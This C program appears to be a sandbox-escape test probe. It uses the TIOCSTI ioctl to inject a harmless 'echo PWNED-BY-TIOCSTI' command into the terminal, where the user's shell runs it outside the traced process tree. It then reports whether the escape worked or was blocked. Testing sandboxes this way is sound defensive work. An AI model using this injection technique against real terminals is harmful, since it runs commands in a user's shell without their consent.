/* tr_tiocsti: push a command into the terminal's input queue (ioctl TIOCSTI), to be read and
 * run by whatever reads the terminal next -- the user's shell, outside the traced tree, once
 * we exit.  FIONREAD tells whether the text is queued (without taking it).
 *
 *   tr_tiocsti          (stdin must be a terminal)
 *
 * Class 6 (work done for us by a process outside the tree).  Needs CONFIG_LEGACY_TIOCSTI
 * (dev.tty.legacy_tiocsti=1) or CAP_SYS_ADMIN.
 */
#include "attack.h"

#include <sys/ioctl.h>
#include <termios.h>

int main(void) {
    const char *cmd = "echo PWNED-BY-TIOCSTI\n";
    if (!isatty(0))
        usage("stdin must be a terminal");
    for (const char *c = cmd; *c; c++)
        if (ioctl(0, TIOCSTI, c) < 0) {
            if (!tracer_pid() && (errno == EIO || errno == EPERM))
                skipped("TIOCSTI is not allowed here (%s: dev.tty.legacy_tiocsti=0?)",
                        ename(errno));
            blocked("ioctl(TIOCSTI): %s", ename(errno));
        }
    int queued = 0; /* look without reading: the text stays for the next reader */
    ioctl(0, FIONREAD, &queued);
    if (queued >= (int)strlen(cmd))
        escaped("%d bytes (\"echo PWNED-BY-TIOCSTI\") wait in the terminal for its next reader",
                queued);
    blocked("the injected text is not in the terminal's input (%d bytes queued)", queued);
}
